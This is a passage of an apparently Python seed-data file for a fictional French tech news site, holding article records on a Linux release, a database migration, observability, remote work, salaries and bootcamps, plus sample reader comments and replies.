L'incident relance aussi le débat sur la dépendance à un fournisseur unique. Les entreprises qui avaient réparti leurs services entre plusieurs hébergeurs ont pu maintenir une activité réduite. Le rapport complet est accessible sur [le site de Nuagerie](https://nuagerie.example.com/incidents/rapport).""",
        "sources": [
            ("Nuagerie", "https://nuagerie.example.com/incidents/rapport"),
            ("Infra Hebdo", "https://infrahebdo.example.net/panne-nuagerie"),
        ],
        "questions": [
            "Vos services survivraient-ils à la panne complète de votre hébergeur ?",
            "Un rapport d'incident transparent suffit-il à restaurer la confiance ?",
            "Testez-vous régulièrement vos procédures de reprise ?",
        ],
        "days_ago": 31,
        "related": [
            "rapatriement-cloud-kubernetes-economies",
            "rancongiciel-communaute-communes-val-brumeux",
            "opentelemetry-adoption-observabilite-enquete",
        ],
        "author": "redaction_marc",
    },
    {
        "slug": "calanque-linux-12-lts-disponible",
        "title": "Calanque Linux 12 LTS est disponible : noyau mis à jour, Wayland par défaut et cinq ans de support",
        "category": "systemes",
        "tags": ["linux", "distribution", "open source"],
        "lead": "La distribution communautaire Calanque Linux publie sa version 12, estampillée support à long terme. Au programme : un noyau récent, la généralisation de Wayland et un nouvel outil de mise à jour transactionnelle.",
        "body": """Deux ans après la version précédente, l'équipe de **Calanque Linux**, une distribution communautaire née à Marseille et appréciée pour sa sobriété, publie Calanque 12 LTS. Cette version bénéficiera de cinq ans de mises à jour de sécurité, une durée portée à sept ans pour les entreprises souscrivant au support payant proposé par l'association.

Le changement le plus visible concerne l'affichage. Wayland devient le protocole par défaut pour toutes les variantes de bureau, X11 restant disponible en option. Les développeurs de la distribution assurent que les problèmes de partage d'écran et de compatibilité avec les pilotes graphiques propriétaires, qui avaient retardé la bascule, sont désormais résolus pour l'essentiel des configurations.

La grande nouveauté technique s'appelle `calq-maj`, un outil qui applique les mises à jour du système dans un instantané séparé, puis bascule au redémarrage suivant. En cas de problème, l'ancienne version reste accessible depuis le menu de démarrage :

```bash
sudo calq-maj verifier
sudo calq-maj appliquer
# Après redémarrage, en cas de souci :
sudo calq-maj revenir --precedent
calq-maj historique
```

"Nos utilisateurs professionnels nous demandaient depuis longtemps de pouvoir mettre à jour sans crainte. C'est désormais possible", se félicite Estelle Rinaldi, coordinatrice de la publication. L'outil fonctionne avec les systèmes de fichiers qui gèrent les instantanés, et un mode dégradé est proposé pour les autres.

Parmi les autres évolutions notables :

- un noyau Linux récent, avec une meilleure prise en charge des processeurs hybrides ;
- la suppression de plusieurs paquets obsolètes, dont d'anciennes versions de Python ;
- un installateur revu, qui propose le chiffrement complet du disque par défaut ;
- des images officielles pour les cartes ARM les plus répandues.

La mise à niveau depuis la version 11 est prise en charge, mais l'équipe recommande d'attendre la première version corrective, prévue dans un mois, pour les serveurs en production. Les images d'installation et les notes de version sont disponibles sur [le site de la distribution](https://calanque-linux.example.org/12).""",
        "sources": [
            ("Calanque Linux", "https://calanque-linux.example.org/12"),
        ],
        "questions": [
            "Utilisez-vous Wayland au quotidien, et avec quel succès ?",
            "Les mises à jour transactionnelles vous feraient-elles changer de distribution ?",
        ],
        "days_ago": 57,
        "related": [],
        "author": "redaction_ines",
    },
    {
        "slug": "migration-mysql-vers-postgresql-retour-experience",
        "title": "De MySQL à PostgreSQL : le réseau de librairies Pages Vives raconte une migration de base de données en douceur",
        "category": "systemes",
        "tags": ["postgresql", "mysql", "bases de données"],
        "lead": "Le réseau de librairies indépendantes Pages Vives a migré sa plateforme de vente en ligne de MySQL vers PostgreSQL sans interruption de service. L'équipe partage sa méthode et les pièges rencontrés.",
        "body": """Migrer une base de données en production fait partie des opérations les plus redoutées des équipes techniques. Le réseau **Pages Vives**, qui fédère 220 librairies indépendantes et leur fournit une plateforme commune de vente en ligne, vient de mener à bien ce chantier. Sa base de 300 Go est passée de MySQL à PostgreSQL sans aucune coupure visible pour les clients.

Les raisons du changement étaient multiples : besoin de types de données plus riches, recherche plein texte en français de meilleure qualité et volonté d'unifier les outils avec ceux du service de statistiques. "Ce n'était pas une question de performance. MySQL nous servait bien, mais nous passions notre temps à contourner ses limites", explique Bastien Roux, administrateur de bases de données.

## Une réplication pendant six semaines

La méthode retenue repose sur une réplication continue. Après une copie initiale des données, un outil de capture des changements a transféré en temps réel chaque modification de la base MySQL vers la nouvelle base. Pendant six semaines, l'équipe a comparé les deux bases chaque nuit, table par table, à l'aide de sommes de contrôle :

```sql
SELECT count(*) AS nb_lignes,
       md5(string_agg(id::text || ':' || coalesce(isbn, ''), ',' ORDER BY id))
         AS empreinte
FROM livres;
```

## Les pièges rencontrés

Plusieurs différences de comportement ont causé des surprises :

- les comparaisons de chaînes, insensibles à la casse par défaut dans la configuration MySQL utilisée, ne l'étaient plus ;
- des dates invalides, du type "zéro janvier", acceptées par l'ancienne base, ont dû être corrigées à la main ;
- certaines requêtes qui regroupaient des lignes sans lister toutes les colonnes ont été rejetées et réécrites ;
- les séquences d'identifiants ont dû être recalées juste avant la bascule.

La bascule elle-même a eu lieu un mardi à six heures du matin. L'application a été passée en lecture seule pendant 90 secondes, le temps d'appliquer les dernières modifications et de changer la configuration de connexion. Un retour arrière restait possible pendant 48 heures grâce à une réplication inverse.

Trois mois plus tard, l'équipe se dit satisfaite. La recherche de livres a gagné en pertinence, et plusieurs traitements de statistiques ont été simplifiés. Le réseau publie ses scripts de comparaison sur [sa forge](https://forge.pagesvives.example.org/migration-pg).""",
        "sources": [
            ("Pages Vives", "https://forge.pagesvives.example.org/migration-pg"),
            ("Base & Données", ""),
        ],
        "questions": [
            "Avez-vous déjà migré une base de production d'un moteur à un autre ?",
            "Quel piège vous a le plus surpris lors d'une migration ?",
        ],
        "days_ago": 83,
        "related": [
            "recherche-semantique-postgresql-retour-experience",
            "studio-albatros-migre-java-vers-kotlin",
        ],
        "author": "redaction_lea",
    },
    {
        "slug": "opentelemetry-adoption-observabilite-enquete",
        "title": "Observabilité : OpenTelemetry devient le standard de fait dans les équipes d'exploitation, selon une enquête",
        "category": "systemes",
        "tags": ["observabilité", "opentelemetry", "devops"],
        "lead": "Une enquête menée par l'association Ops Francophones auprès de 900 professionnels montre que plus de la moitié des équipes instrumentent désormais leurs applications avec OpenTelemetry. Les traces distribuées progressent, mais leur exploitation reste difficile.",
        "body": """Il y a quelques années, chaque outil de supervision imposait ses propres agents et formats. Cette époque semble révolue. Selon l'enquête annuelle de l'association **Ops Francophones**, 56 % des équipes interrogées utilisent OpenTelemetry pour instrumenter au moins une partie de leurs applications, et 23 % l'ont généralisé à tous leurs services.

Les répondants citent d'abord l'indépendance vis-à-vis des éditeurs : instrumenter une fois, puis envoyer les données vers l'outil de son choix, permet de changer de fournisseur sans toucher au code. L'instrumentation automatique, disponible pour les frameworks les plus courants, a également facilité l'adoption. Pour le code métier, quelques lignes suffisent à créer des traces personnalisées :

```python
from opentelemetry import trace

traceur = trace.get_tracer("commandes")


def valider_commande(commande):
    with traceur.start_as_current_span("valider_commande") as span:
        span.set_attribute("commande.montant", commande.montant)
        verifier_stock(commande)
        return enregistrer(commande)
```

## Des traces, mais pour quoi faire ?

L'enquête met toutefois en évidence un décalage. Si 61 % des équipes collectent des traces distribuées, seules 27 % déclarent s'en servir régulièrement pour diagnostiquer des incidents. Beaucoup évoquent des volumes de données difficiles à maîtriser et des coûts de stockage en forte hausse. "On a tout instrumenté, puis on s'est rendu compte que personne ne savait quoi chercher dans cette montagne de données", témoigne un ingénieur cité dans l'étude.

Les auteurs recommandent de commencer par les parcours critiques pour l'utilisateur, de pratiquer l'échantillonnage et de former les équipes à la lecture des traces, au même titre qu'à celle des journaux.

## La fin des journaux classiques ?

Autre enseignement : les journaux textuels résistent. 88 % des équipes continuent de s'appuyer principalement sur eux pour le diagnostic, souvent par habitude. Les journaux structurés, corrélés aux traces par un identifiant commun, progressent néanmoins rapidement. "La question n'est plus de choisir entre journaux, métriques et traces, mais de les relier", résume Vincent Lacombe, président de l'association. Les résultats détaillés de l'enquête sont consultables sur [le site d'Ops Francophones](https://ops-francophones.example.org/enquete-observabilite).""",
        "sources": [
            ("Ops Francophones", "https://ops-francophones.example.org/enquete-observabilite"),
            ("Infra Hebdo", ""),
        ],
        "questions": [
            "Exploitez-vous réellement vos traces distribuées lors des incidents ?",
            "Comment maîtrisez-vous le coût de stockage de vos données d'observabilité ?",
        ],
        "days_ago": 120,
        "related": [],
        "author": "redaction_marc",
    },
    # ------------------------------------------------------------------
    # Emploi et carrière
    # ------------------------------------------------------------------
    {
        "slug": "esn-impose-retour-bureau-developpeurs-protestent",
        "title": "Télétravail : l'ESN Stratégia impose trois jours de présence au bureau, les développeurs menacent de démissionner",
        "category": "carriere",
        "tags": ["télétravail", "emploi", "management"],
        "lead": "L'entreprise de services numériques Stratégia a annoncé que ses 3 000 salariés devront être présents au bureau au moins trois jours par semaine. Une pétition interne a recueilli plus de mille signatures en quelques jours.",
        "body": """La note interne tient en une page, mais elle a provoqué une onde de choc. La direction de **Stratégia**, une entreprise de services numériques de 3 000 salariés implantée dans une dizaine de villes françaises, a annoncé qu'à partir du trimestre prochain, chaque collaborateur devra être présent au bureau ou chez le client au moins trois jours par semaine. Jusqu'ici, la plupart des développeurs ne s'y rendaient qu'un jour, voire moins.

La direction justifie sa décision par la nécessité de "recréer du lien" et de "faciliter la transmission des savoirs". Dans la note, elle affirme que les jeunes recrues progressent moins vite à distance et que la cohésion des équipes s'est érodée. Elle évoque également une demande de certains clients, désireux de voir les consultants travailler dans leurs locaux.

## Une contestation inhabituelle

La réaction ne s'est pas fait attendre. Une pétition lancée par un collectif de salariés a recueilli plus de 1 100 signatures en cinq jours, un chiffre inédit dans l'entreprise. Les signataires dénoncent une décision prise sans concertation et rappellent que beaucoup ont déménagé loin des agences depuis la généralisation du télétravail. "J'ai signé mon contrat en sachant que je travaillerais principalement de chez moi. Deux heures de trajet par jour, ce n'est pas envisageable", témoigne Nicolas, développeur à l'agence de Rennes.

Plusieurs salariés affirment avoir déjà lancé une recherche d'emploi. Sur les réseaux professionnels, des concurrents n'ont pas tardé à publier des offres mettant en avant le télétravail complet.

## Un débat qui dépasse Stratégia

L'affaire illustre un débat qui traverse tout le secteur. D'un côté, des directions qui s'inquiètent de la perte de culture d'entreprise, de la difficulté à intégrer les nouveaux arrivants et, parfois, du coût de bureaux peu occupés. De l'autre, des développeurs qui mettent en avant leur productivité, leur qualité de vie et les économies réalisées sur les transports.

Les études sur le sujet ne tranchent pas. Certaines concluent à une productivité stable ou en hausse en télétravail, d'autres pointent des effets négatifs sur la collaboration et l'innovation. Selon Juliette Marchal, chercheuse en sociologie du travail, "la question n'est pas tant le nombre de jours que la manière dont ils sont utilisés. Faire venir les gens pour qu'ils passent leurs journées en visioconférence ne sert à rien".

Les représentants du personnel ont demandé l'ouverture de négociations. La direction se dit prête à discuter des modalités, mais pas du principe.""",
        "sources": [
            ("Le Journal du Développeur", "https://journal-dev.example.com/strategia-teletravail"),
            ("Travail & Numérique", "https://travail-numerique.example.org/retour-au-bureau"),
        ],
        "questions": [
            "Combien de jours de télétravail vous semblent idéaux ?",
            "Changeriez-vous d'employeur si l'on vous imposait un retour au bureau ?",
            "Le télétravail nuit-il vraiment à la progression des développeurs juniors ?",
        ],
        "days_ago": 1,
        "related": [
            "semaine-quatre-jours-startup-nantaise-bilan",
            "barometre-salaires-developpeurs-france",
        ],
        "author": "redaction_ines",
    },
    {
        "slug": "barometre-salaires-developpeurs-france",
        "title": "Baromètre des salaires : les développeurs seniors voient leur rémunération stagner pour la première fois depuis cinq ans",
        "category": "carriere",
        "tags": ["salaires", "emploi", "carrière"],
        "lead": "Le baromètre annuel du cabinet de recrutement Talents & Code constate une stagnation des salaires des profils expérimentés, après plusieurs années de hausse. Les débutants, eux, font face à un marché nettement plus tendu.",
        "body": """Après plusieurs années de croissance soutenue, le marché de l'emploi des développeurs marque le pas. C'est ce que montre le **baromètre annuel du cabinet Talents & Code**, établi à partir de 11 000 offres d'emploi et de 4 500 réponses à un questionnaire en ligne.

Pour la première fois depuis cinq ans, le salaire médian des développeurs seniors, définis comme ayant plus de huit ans d'expérience, n'a pas progressé. Il s'établit à 62 000 euros bruts annuels en Île-de-France et à 52 000 euros dans les autres régions. Les profils les plus spécialisés, en sécurité, en données ou en infrastructure, échappent en partie à ce ralentissement.

La situation est plus délicate pour les débutants. Le nombre d'offres accessibles aux développeurs de moins de deux ans d'expérience a reculé de 22 % en un an. Les recruteurs interrogés évoquent un contexte économique incertain, qui pousse les entreprises à privilégier des profils immédiatement opérationnels. "Les entreprises veulent des juniors qui ont déjà trois ans d'expérience", ironise Chloé Faure, consultante chez Talents & Code.

Le baromètre relève également :

- une baisse de la part des offres proposant du télétravail complet, de 19 % à 13 % ;
- une hausse des offres mentionnant une expérience en intelligence artificielle ;
- des écarts de salaire entre femmes et hommes toujours présents, autour de 9 % à poste et expérience égaux ;
- une progression des contrats de mission indépendante chez les profils seniors.

Comme chaque année, le document établit un classement des technologies associées aux salaires les plus élevés. Les auteurs mettent en garde contre une lecture trop littérale : le langage reflète souvent le secteur d'activité plus que la compétence elle-même. Les postes en Rust, Scala ou Go se concentrent ainsi dans la finance et les infrastructures, traditionnellement plus rémunératrices.

Le cabinet se montre prudemment optimiste pour l'année à venir, anticipant une reprise des recrutements au second semestre. Il recommande aux candidats de soigner leur capacité à expliquer leurs choix techniques, critère de plus en plus mis en avant par les recruteurs. Le baromètre complet est disponible sur [le site du cabinet](https://talents-code.example.com/barometre).""",
        "sources": [
            ("Talents & Code", "https://talents-code.example.com/barometre"),
        ],
        "questions": [
            "Votre salaire a-t-il progressé cette année ?",
            "Le marché vous semble-t-il plus difficile pour les débutants qu'il y a quelques années ?",
        ],
        "days_ago": 20,
        "related": [
            "reconversion-bootcamps-bilan-insertion",
            "banques-regionales-penurie-developpeurs-cobol",
        ],
        "author": "redaction_lea",
    },
    {
        "slug": "reconversion-bootcamps-bilan-insertion",
        "title": "Reconversion : le taux d'insertion des diplômés de bootcamps recule nettement, selon une enquête du collectif Passerelles",
        "category": "carriere",
        "tags": ["reconversion", "formation", "emploi"],
        "lead": "Le collectif Passerelles a interrogé 1 500 personnes passées par une formation intensive au développement web. Six mois après leur sortie, 48 % occupent un emploi dans le secteur, contre 71 % trois ans plus tôt.",
        "body": """Les formations intensives au développement, souvent appelées *bootcamps*, ont promis pendant des années une reconversion rapide vers un métier recherché. Cette promesse se heurte désormais à la réalité du marché. Le **collectif Passerelles**, qui regroupe d'anciens élèves de ces formations, publie une enquête menée auprès de 1 500 diplômés de douze organismes.

Six mois après la fin de leur formation, 48 % des répondants occupent un emploi de développeur ou un poste technique proche. Ils étaient 71 % dans l'enquête précédente, il y a trois ans. Le délai moyen pour décrocher un premier poste est passé de trois à sept mois.

## Un marché saturé au premier échelon

Les causes avancées sont multiples. Le recul général des offres pour les profils débutants pèse lourd, tout comme la concurrence accrue entre diplômés d'écoles d'ingénieurs, d'universités et de formations courtes. "Quand un recruteur reçoit deux cents candidatures pour un poste junior, il commence par écarter ceux qui n'ont pas de diplôme classique", constate Manon Lefebvre, porte-parole du collectif, elle-même passée par un bootcamp.

Les répondants qui s'en sortent le mieux partagent plusieurs caractéristiques :

- une première carrière dans un secteur qu'ils ont pu valoriser, comme la logistique, la santé ou la comptabilité ;
- un ou plusieurs projets personnels aboutis, mis en ligne et documentés ;
- une alternance ou un stage long à l'issue de la formation ;
- une mobilité géographique, les offres restant concentrées dans les grandes métropoles.

## Les organismes sur la sellette

L'enquête pointe aussi les pratiques de certains organismes, accusés d'afficher des taux d'insertion flatteurs calculés sur des bases discutables, par exemple en excluant les élèves qui ne répondent pas aux questionnaires. Le collectif réclame une méthode de calcul commune et vérifiée par un tiers.

Tout n'est pas négatif pour autant. 82 % des répondants déclarent ne pas regretter leur choix, et ceux qui ont trouvé un poste affichent une satisfaction professionnelle élevée. Plusieurs organismes ont par ailleurs allongé leurs formations et renforcé l'accompagnement vers l'emploi. Le rapport complet est disponible sur [le site du collectif](https://passerelles.example.org/enquete-insertion).""",
        "sources": [
            ("Collectif Passerelles", "https://passerelles.example.org/enquete-insertion"),
            ("Travail & Numérique", ""),
        ],
        "questions": [
            "Recommanderiez-vous aujourd'hui un bootcamp à quelqu'un en reconversion ?",
            "Votre entreprise recrute-t-elle des profils issus de formations courtes ?",
            "Quel conseil donneriez-vous à une personne qui cherche son premier poste ?",
        ],
        "days_ago": 70,
        "related": [
            "barometre-salaires-developpeurs-france",
            "entretiens-techniques-live-coding-critique",
        ],
        "author": "redaction_marc",
    },
    {
        "slug": "semaine-quatre-jours-startup-nantaise-bilan",
        "title": "Semaine de quatre jours : après un an d'essai, une start-up nantaise décide de la généraliser à toute l'équipe technique",
        "category": "carriere",
        "tags": ["organisation", "emploi", "bien-être"],
        "lead": "La start-up Voilure, qui édite un logiciel de planification pour les transporteurs, a expérimenté la semaine de quatre jours sans baisse de salaire. Le bilan, jugé positif, la conduit à pérenniser le dispositif.",
        "body": """Il y a un an, **Voilure**, une start-up nantaise de 45 salariés qui développe un logiciel de planification pour les entreprises de transport, lançait une expérimentation : l'équipe technique passerait à la semaine de quatre jours, sans réduction de salaire, à raison de 32 heures hebdomadaires. Douze mois plus tard, l'entreprise publie son bilan et annonce la généralisation du dispositif.

Pour mesurer l'effet de ce changement, la direction avait défini des indicateurs avant le lancement : nombre de fonctionnalités livrées, délais de correction des anomalies, satisfaction des clients, arrêts maladie et départs. Sur l'année, le rythme de livraison est resté stable, tandis que les arrêts maladie ont reculé de 35 %. Aucun développeur n'a quitté l'entreprise, contre quatre départs l'année précédente.

"Nous avons surtout supprimé ce qui ne servait à rien", explique Arthur Chevalier, directeur technique. Les réunions ont été réduites de moitié, limitées à 30 minutes par défaut, et concentrées sur deux jours. Les échanges écrits sont devenus la norme, avec des plages de concentration protégées chaque matin.

Le dispositif n'a toutefois pas été exempt de difficultés :

- l'organisation des astreintes a dû être entièrement repensée pour assurer une présence cinq jours sur cinq ;
- certains salariés ont ressenti une pression accrue pour tout boucler en quatre jours ;
- les équipes commerciales, restées à cinq jours, ont parfois exprimé un sentiment d'injustice.

Sur ce dernier point, l'entreprise a décidé d'étendre l'expérimentation à l'ensemble de ses services à partir du mois prochain. Le jour non travaillé reste choisi par chaque équipe, afin que les clients disposent toujours d'un interlocuteur.

Le cas de Voilure reste difficile à généraliser. Les spécialistes de l'organisation du travail rappellent que les résultats positifs sont plus faciles à obtenir dans de petites structures, avec des salariés volontaires et une activité peu soumise aux urgences. Les entreprises de services, où le temps est facturé au client, se heurtent à des contraintes bien différentes.

Reste qu'à l'heure où de nombreuses entreprises durcissent leurs règles de présence au bureau, l'initiative attire l'attention. La start-up affirme avoir reçu trois fois plus de candidatures depuis l'annonce de l'expérimentation. Le bilan détaillé est publié sur [le blog de Voilure](https://voilure.example.com/blog/bilan-quatre-jours).""",
        "sources": [
            ("Blog de Voilure", "https://voilure.example.com/blog/bilan-quatre-jours"),
            ("Ouest Tech", "https://ouest-tech.example.org/voilure-quatre-jours"),
        ],
        "questions": [
            "La semaine de quatre jours serait-elle possible dans votre équipe ?",
            "Préféreriez-vous quatre jours au bureau ou cinq jours en télétravail ?",
        ],
        "days_ago": 140,
        "related": [],
        "author": "redaction_ines",
    },
    {
        "slug": "entretiens-techniques-live-coding-critique",
        "title": "Entretiens d'embauche : le live coding de plus en plus contesté par les candidats comme par les recruteurs",
        "category": "carriere",
        "tags": ["recrutement", "entretien", "carrière"],
        "lead": "Les exercices de programmation en direct restent très répandus dans les processus de recrutement des développeurs. Une enquête de la plateforme Embauche Claire montre pourtant que candidats et recruteurs doutent de leur pertinence.",
        "body": """Résoudre un problème d'algorithmique en direct, sous le regard d'un ou plusieurs recruteurs, avec un chronomètre qui tourne : l'exercice est devenu un passage presque obligé pour décrocher un poste de développeur. Une **enquête de la plateforme Embauche Claire**, menée auprès de 2 000 candidats et 300 recruteurs techniques, montre que cette pratique suscite de plus en plus de réserves.

Côté candidats, 74 % estiment que le *live coding* ne reflète pas leur travail quotidien, et 58 % déclarent avoir déjà renoncé à une candidature en découvrant ce type d'épreuve dans le processus. Le stress est le premier reproche : beaucoup disent perdre leurs moyens face à un exercice qu'ils résoudraient sans difficulté dans des conditions normales.

## Des recruteurs eux-mêmes sceptiques

Plus surprenant, les recruteurs ne sont guère plus convaincus. Seuls 41 % d'entre eux jugent l'exercice efficace pour prédire la réussite d'un candidat. Beaucoup reconnaissent l'utiliser par habitude ou faute d'alternative simple à mettre en place. Les problèmes posés sont souvent très éloignés des besoins réels, comme cet exercice classique encore largement utilisé :

```python
def deux_sommes(nombres: list[int], cible: int) -> tuple[int, int] | None:
    vus: dict[int, int] = {}
    for i, n in enumerate(nombres):
        if cible - n in vus:
            return vus[cible - n], i
        vus[n] = i
    return None
```

"Savoir écrire cette fonction en dix minutes ne dit presque rien de la capacité à maintenir une application de gestion pendant trois ans", observe Raphaël Dupuis, responsable du recrutement technique d'un éditeur de logiciels qui a abandonné l'exercice l'an dernier.

## Les alternatives qui montent

L'enquête recense plusieurs formats jugés plus pertinents par les deux parties :

- la revue d'un code existant, où le candidat commente et propose des améliorations ;
- un petit exercice à réaliser chez soi, limité à deux heures et rémunéré dans certaines entreprises ;
- une discussion technique autour d'un projet passé du candidat ;
- une séance de programmation en binôme sur un vrai problème de l'équipe.

Chaque format a ses défauts. Les exercices à domicile désavantagent les candidats qui ont des contraintes familiales, et les discussions techniques favorisent ceux qui savent bien se présenter. Pour les auteurs, l'essentiel est d'annoncer clairement le déroulé du processus et d'évaluer les compétences réellement utiles au poste. L'enquête complète est disponible sur [le site d'Embauche Claire](https://embauche-claire.example.com/enquete-entretiens).""",
        "sources": [
            ("Embauche Claire", "https://embauche-claire.example.com/enquete-entretiens"),
            ("Le Journal du Développeur", ""),
        ],
        "questions": [
            "Avez-vous déjà passé, ou fait passer, un entretien en live coding ?",
            "Quel format d'entretien technique vous semble le plus juste ?",
            "Un exercice à domicile devrait-il être rémunéré ?",
        ],
        "days_ago": 190,
        "related": [],
        "author": "redaction_lea",
    },
]

DISCUSSION_ARTICLE = "esn-impose-retour-bureau-developpeurs-protestent"

COMMENT_SNIPPETS = [
    "Article intéressant, merci. J'aurais bien aimé avoir un peu plus de détails sur la méthodologie, parce que les chiffres seuls ne disent pas grand-chose.",
    "Chez nous, on a vécu exactement la même chose il y a deux ans. Le plus dur n'a pas été la technique, mais de convaincre la direction que ça valait le coup.",
    "Je reste sceptique. On nous annonce ce genre de révolution tous les six mois, et au final on continue de faire tourner les mêmes outils qu'avant.",
    "Quelqu'un a-t-il un retour d'expérience concret en production ? Les articles de blog, c'est bien, mais je voudrais savoir ce que ça donne au bout d'un an.",
    "Encore une fois, le vrai sujet c'est la formation. On peut avoir les meilleurs outils du monde, si personne ne sait s'en servir correctement, ça ne change rien.",
    "Enfin une bonne nouvelle ! Ça faisait longtemps que j'attendais ça.",
    "Je ne vois pas trop ce qu'il y a de nouveau là-dedans. On faisait déjà la même chose il y a quinze ans, ça avait juste un autre nom.",
    "Petite précision : la plupart de ces outils ont une option `--dry-run`, toujours utile avant de lancer quoi que ce soit en production.",
    "Le chiffre annoncé me paraît énorme. Il faudrait savoir ce qui est compté exactement, parce que les salaires des ingénieurs supplémentaires, ça pèse vite.",
    "J'ai testé ce week-end sur un projet perso. Première impression plutôt bonne, la documentation est claire, mais j'ai eu quelques soucis d'installation sous Windows.",
    "Tout dépend du contexte, comme toujours. Pour une équipe de trois personnes, ce n'est pas du tout le même calcul que pour une boîte de deux cents développeurs.",
    "Ce qui m'inquiète, c'est la dépendance à un seul fournisseur. Le jour où ils changent leurs conditions, on fait comment ?",
    "Bravo à l'équipe pour la transparence. Des retours d'expérience aussi détaillés, avec les erreurs et pas seulement les réussites, c'est rare.",
    "Je travaille dans le secteur depuis vingt ans et j'ai appris une chose : la technologie qui gagne n'est pas toujours la meilleure, c'est celle qui a la meilleure documentation.",
    "Quelqu'un sait si c'est compatible avec les versions plus anciennes ? On est encore coincés sur une vieille version pour des raisons que je préfère ne pas détailler.",
    "Mon avis, pour ce qu'il vaut :\n\n- bonne idée sur le papier ;\n- exécution à surveiller ;\n- on en reparle dans un an.",
    "C'est marrant, tout le monde découvre aujourd'hui ce que les administrateurs système répètent depuis des années.",
    "Le titre est un peu racoleur, non ? En lisant l'article, la situation est quand même beaucoup plus nuancée.",
    "J'apprécie que l'article ne se contente pas de relayer le communiqué de presse et donne aussi la parole aux sceptiques.",
    'Pour ceux qui veulent tester rapidement, voici ce que j\'utilise :\n\n```python\nimport time\n\ndebut = time.perf_counter()\ntraitement()\nprint(f"Durée : {time.perf_counter() - debut:.3f} s")\n```\n\nPas très scientifique, mais ça donne un ordre de grandeur.',
    "Dans ma boîte, on a essayé et on a fait marche arrière au bout de trois mois. Pas parce que l'outil était mauvais, mais parce qu'on n'avait pas le temps de l'intégrer correctement.",
    "Je pose la question naïvement : quel est le problème qu'on cherche à résoudre, au juste ?",
    "Rien de surprenant. Quand on sous-investit pendant dix ans, il ne faut pas s'étonner que ça finisse par casser.",
    "Je suis plutôt d'accord avec l'article, mais il manque un point important : le coût de maintenance sur la durée. Mettre en place, c'est facile, maintenir, c'est autre chose.",
    "Si quelqu'un cherche un bon point de départ, la section « premiers pas » de la documentation officielle est vraiment bien faite.",
    "On voit bien que l'auteur du rapport n'a jamais été d'astreinte un dimanche à trois heures du matin.",
    "Je me méfie des études financées par des entreprises qui vendent justement la solution étudiée. Ce n'est pas forcément faux, mais ça mérite un peu de recul.",
    "Ça me rappelle un projet sur lequel j'ai travaillé : même promesse, même enthousiasme au départ, et la même désillusion six mois plus tard. J'espère me tromper cette fois.",
    "La vraie question, c'est : est-ce que ça va tenir la charge ? Sur une démo, tout marche toujours très bien.",
    "Excellent résumé. Je partage à mon équipe, ça va alimenter notre prochaine réunion technique.",
    "Ce genre d'annonce me fait toujours penser qu'on réinvente la roue tous les cinq ans, mais avec plus de dépendances à chaque fois.",
    "Pour info, on peut déjà obtenir un résultat similaire avec `grep -r` et un peu de patience. Pas aussi joli, mais ça dépanne.",
    "Quelqu'un aurait un lien vers le rapport original ? Je ne trouve que des résumés.",
    "Je trouve dommage que l'article ne parle pas de l'impact sur les utilisateurs finaux. Au final, ce sont eux qui subissent les décisions techniques.",
    "Personnellement, j'ai changé d'avis sur ce sujet. Il y a deux ans j'étais contre, aujourd'hui je trouve que les avantages l'emportent largement.",
    "Exemple concret de ce qu'on a mis en place chez nous :\n\n```python\nfrom functools import lru_cache\n\n\n@lru_cache(maxsize=1024)\ndef charger_configuration(nom: str) -> dict:\n    return lire_fichier(nom)\n```\n\nRien de révolutionnaire, mais ça a divisé nos temps de réponse par deux.",
    "Typiquement le genre de sujet où tout le monde a un avis tranché et où la réponse est « ça dépend ».",
    "Merci pour l'article. Une coquille s'est glissée dans le troisième paragraphe, mais le fond est très clair.",
    "C'est bien beau, mais qui va payer ? Les projets libres sont toujours maintenus par trois bénévoles épuisés.",
    "J'ai l'impression qu'on sous-estime complètement l'effort de migration. Sur le papier c'est simple, dans la vraie vie il y a toujours un module oublié que personne ne comprend.",
    "Je suis développeur junior et ce genre d'article m'aide beaucoup à comprendre les enjeux. Merci de prendre le temps d'expliquer le contexte.",
    "On en parlait justement à la machine à café ce matin. Les avis sont très partagés dans l'équipe.",
    "Le plus intéressant dans l'article, c'est la liste des erreurs commises. On devrait tous lire plus de post-mortems.",
    "Franchement, je ne vois pas l'intérêt. Ce qu'on a aujourd'hui fonctionne très bien.",
    "Attention aux conclusions hâtives : un échantillon de quelques centaines de personnes, ce n'est pas forcément représentatif de tout le secteur.",
    "Trois remarques rapides :\n\n1. le chiffre est cohérent avec ce que je vois autour de moi ;\n2. le contexte économique joue énormément ;\n3. ça varie beaucoup d'une région à l'autre.",
    "Ah, le fameux « ça marche sur ma machine ». Certaines choses ne changent jamais.",
    "Je serais curieux de voir les mêmes chiffres dans deux ans, pour savoir si c'est une tendance de fond ou un effet de mode.",
    "J'aurais aimé que l'article cite aussi des alternatives. Il n'y a pas qu'une seule manière de résoudre ce problème.",
    "Chez mon ancien employeur, on avait une règle simple : pas de nouvelle technologie en production sans au moins deux personnes capables de la maintenir. Ça évite beaucoup de problèmes.",
    "Je trouve l'approche très pragmatique. Pas de grande révolution, juste des choix raisonnables et bien expliqués.",
    "Petit rappel utile pour ceux qui testent : pensez à lancer `python -m pytest -x` pour vous arrêter à la première erreur, ça fait gagner du temps.",
    "Je suis partagé. D'un côté, l'idée est séduisante, de l'autre, j'ai peur que ça complique encore un peu plus notre chaîne d'outils déjà bien chargée.",
    "Quelqu'un a déjà essayé de convaincre sa hiérarchie avec ce genre d'arguments ? Chez nous, dès qu'on parle de changement, on nous répond « pas cette année ».",
    "On parle beaucoup de la technique, mais très peu des humains derrière. C'est pourtant là que tout se joue.",
    "Très bon article, mais j'aurais inversé l'ordre des priorités : la sécurité d'abord, les performances ensuite.",
    "Pour avoir fait l'exercice, je confirme : le premier mois est pénible, le deuxième est supportable et à partir du troisième on se demande comment on faisait avant.",
    "Voilà ce que donnerait la version minimaliste, pour ceux que ça intéresse :\n\n```python\nresultats = [r for r in donnees if r.actif]\nprint(len(resultats))\n```\n\nSouvent, on n'a pas besoin de plus.",
    "Je me demande ce qu'en pensent les gens qui étaient là au début du projet. Leur vision a dû beaucoup évoluer.",
    "Conclusion personnelle : ni miracle, ni catastrophe. Un outil de plus, à utiliser quand il est pertinent.",
]

REPLY_SNIPPETS = [
    "Je ne suis pas d'accord : dans mon expérience, c'est exactement l'inverse qui se produit.",
    "Tout à fait, et j'ajouterais que la documentation joue un rôle énorme dans tout ça.",
    "Source ?",
    "Tu as un lien vers ce que tu mentionnes ? Ça m'intéresse.",
    "Pas si simple. Ça dépend beaucoup de la taille de l'équipe.",
